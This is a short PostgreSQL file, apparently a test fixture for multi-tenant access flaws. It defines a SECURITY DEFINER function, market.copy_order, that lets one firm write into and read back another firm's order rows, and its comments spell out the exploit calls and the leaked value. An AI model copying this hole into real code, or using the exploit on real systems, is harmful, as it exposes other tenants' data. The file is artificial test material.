-- An order is copied to the seller named in its note; a buyer writes into the orders of any firm.
-- about: copy_order, seller_orders
-- as: hf_marketplace_app
-- exploit: SET app.firm_id = 'aaaaaaaa-0000-0000-0000-000000000001';
-- exploit: SELECT market.copy_order('bbbbbbbb-0000-0000-0000-00000000000e',
-- exploit:   'bbbbbbbb-0000-0000-0000-000000000001');
-- shows: buyer-secret
CREATE FUNCTION market.copy_order(p_order uuid, p_seller uuid) RETURNS text
LANGUAGE plpgsql SECURITY DEFINER SET search_path = market, pg_temp AS $$
DECLARE
  v_name text;
BEGIN
  INSERT INTO market.seller_orders AS o (firm_id, order_id, buyer_name)
    SELECT p_seller, p_order, name FROM market.firms WHERE firm_id = market.firm()
    ON CONFLICT (firm_id, order_id) DO UPDATE SET state = 'again'
    RETURNING o.buyer_name INTO v_name;
  RETURN v_name;
END $$;
REVOKE ALL ON FUNCTION market.copy_order(uuid, uuid) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION market.copy_order(uuid, uuid) TO hf_marketplace_app;
